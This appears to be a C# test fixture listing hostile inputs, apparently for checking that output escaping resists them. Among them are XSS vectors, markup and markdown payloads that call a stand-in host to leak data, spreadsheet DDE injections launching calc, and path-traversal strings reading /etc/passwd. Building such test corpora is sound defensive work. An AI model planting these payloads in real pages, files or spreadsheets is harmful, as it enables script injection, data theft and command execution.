namespace Concordance.Tests.Shared;

/// <summary>A text that acts, hides, leads away or breaks out where something lets it.</summary>
/// <param name="Id">Its name, which it tells where it runs (<c>canary('id')</c>) or asks a host for something (<c>leak.example/id</c>).</param>
/// <param name="Text">The text.</param>
/// <param name="Leads">Whether it must come first to act, as formulas must.</param>
sealed record Payload(string Id, string Text, bool Leads = false)
{
    /// <summary>Stands for one half of a surrogate pair, which no string can be written with: <see cref="HostileJson"/> writes the half in its place.</summary>
    public const char HalfPair = '\uE000';

    /// <summary>Letters of a word without an end.</summary>
    public const int LongWord = 10_000;

    const string Escape = "\u001b";

    /// <summary>All of them; each id once.</summary>
    public static IReadOnlyList<Payload> All { get; } =
    [
        new("script", "<script>canary('script')</script>"),
        new("image", "<img src=x onerror=canary('image')>"),
        new("svg", "<svg onload=canary('svg')></svg>"),
        new("breakout", "\"><img src=x onerror=\"canary('breakout')\">"),
        new("attribute", "' onmouseover='canary(\"attribute\")' x='"),
        new("end-script", "</script><script>canary('end-script')</script>"),
        new("end-title", "</title></textarea></style></td></table></pre><img src=x onerror=canary('end-title')>"),
        new("comment", "<!--><img src=x onerror=canary('comment')>-->"),
        new("cdata", "]]><script>canary('cdata')</script>"),
        new("style", "<style>*{background:url(https://leak.example/style)}</style><b style=\"position:fixed;inset:0;background:url(https://leak.example/style)\">"),
        new("refresh", "<meta http-equiv=refresh content=\"0;url=https://leak.example/refresh\"><base href=\"https://leak.example/refresh/\"><link rel=stylesheet href=\"https://leak.example/refresh.css\">"),
        new("form", "<form action=\"https://leak.example/form\"><button autofocus onfocus=canary('form')>x</button></form><iframe srcdoc=\"<script>parent.canary('form')</script>\"></iframe>"),
        new("anchor", "<a href=\"javascript:canary('anchor')\">press</a>"),
        new("scheme", "javascript:canary('scheme')//"),
        new("data-address", "data:text/html,<script>canary('data-address')</script>"),
        new("mustache", "{{constructor.constructor(\"canary('mustache')\")()}}"),
        new("template", "${canary('template')}"),
        new("tex", "$\\href{javascript:canary('tex')}{x}$ \\(y\\) $$z$$"),
        new("markdown-link", "[press](javascript:canary('markdown-link')) [press](https://leak.example/markdown-link)"),
        new("markdown-image", "![seen](https://leak.example/markdown-image.png)"),
        new("markdown-block", "\n# Heading\n\n| a | b |\n|---|---|\n| <img src=x onerror=canary('markdown-block')> | **b** |\n\n```\ncode\n"),
        new("markdown-html", "\n\n<iframe src=\"https://leak.example/markdown-html\"></iframe>\n\n"),
        new("markdown-reference", "<https://leak.example/markdown-reference> [^1] [ref]\n\n[ref]: https://leak.example/markdown-reference\n[^1]: note"),
        new("plotly", "<a href=\"https://leak.example/plotly\">press</a><br><b>bold</b><sup>up</sup><extra></extra>%{x}"),
        new("drawing", "</text></svg><image href=\"https://leak.example/drawing.png\"/>"),
        new("mermaid", "graph TD; A-->B; click A \"https://leak.example/mermaid\" _blank"),
        new("colours", $"{Escape}[31mred{Escape}[2J{Escape}[H{Escape}]0;title\u0007{Escape}P1;1|x{Escape}\\"),
        new("terminal-link", $"{Escape}]8;;https://leak.example/terminal-link{Escape}\\link{Escape}]8;;{Escape}\\"),
        new("controls", "\u0000\u0001\u0007\u0008\u000b\u000c\u007f\u0085\u0090\u009b31m\u009d0;title\u009c"),
        new("direction", "\u202Edesrever\u202C \u202Aa\u202Bb\u202D \u2066c\u2067d\u2068e\u2069 \u200F\u061C"),
        new("invisible", "in\u200Bvis\u2060ib\uFEFFle\u00ADhere"),
        new("stacked", "Z" + string.Concat(Enumerable.Repeat("\u0300\u0316\u0489", 100))),
        new("line-ends", "one\u2028two\u2029three\u0085four\r\nfive"),
        new("half-pair", $"half{HalfPair}pair"),
        new("formula", "=HYPERLINK(\"https://leak.example/formula\",\"press\")", Leads: true),
        new("command", "=cmd|' /C calc'!A0", Leads: true),
        new("plus", "+1+cmd|' /C calc'!A0", Leads: true),
        new("minus", "-2+3+cmd|' /C calc'!A0", Leads: true),
        new("at", "@SUM(1+1)", Leads: true),
        new("tab", "\t=1+1", Leads: true),
        new("return", "\r=1+1", Leads: true),
        new("separators", "a;b\",\"c'd\n=1+1,e\te"),
        new("climb", "../../../../../../etc/passwd"),
        new("climb-back", "..\\..\\..\\windows\\win.ini"),
        new("absolute", "/etc/passwd"),
        new("device", "CON"),
        new("file-address", "file:///etc/passwd"),
        new("encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00"),
        new("stream", "posts.csv:hidden:$DATA"),
        new("long", new string('W', LongWord)),
        new("mixed", "שלום abc مرحبا 123 (עולם)"),
        new("emoji", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇦🇿👍🏿"),
    ];

    /// <summary>Those that are one line of moderate length without line ends, for places that hold a name.</summary>
    public static IReadOnlyList<Payload> Short { get; } = [.. All.Where(p => p.Text.Length < 300 && !p.Text.AsSpan().ContainsAny("\n\r"))];

    /// <summary>The payload with a text that it comes with.</summary>
    public string With(string text) => Leads ? Text + " " + text : text + " " + Text;
}
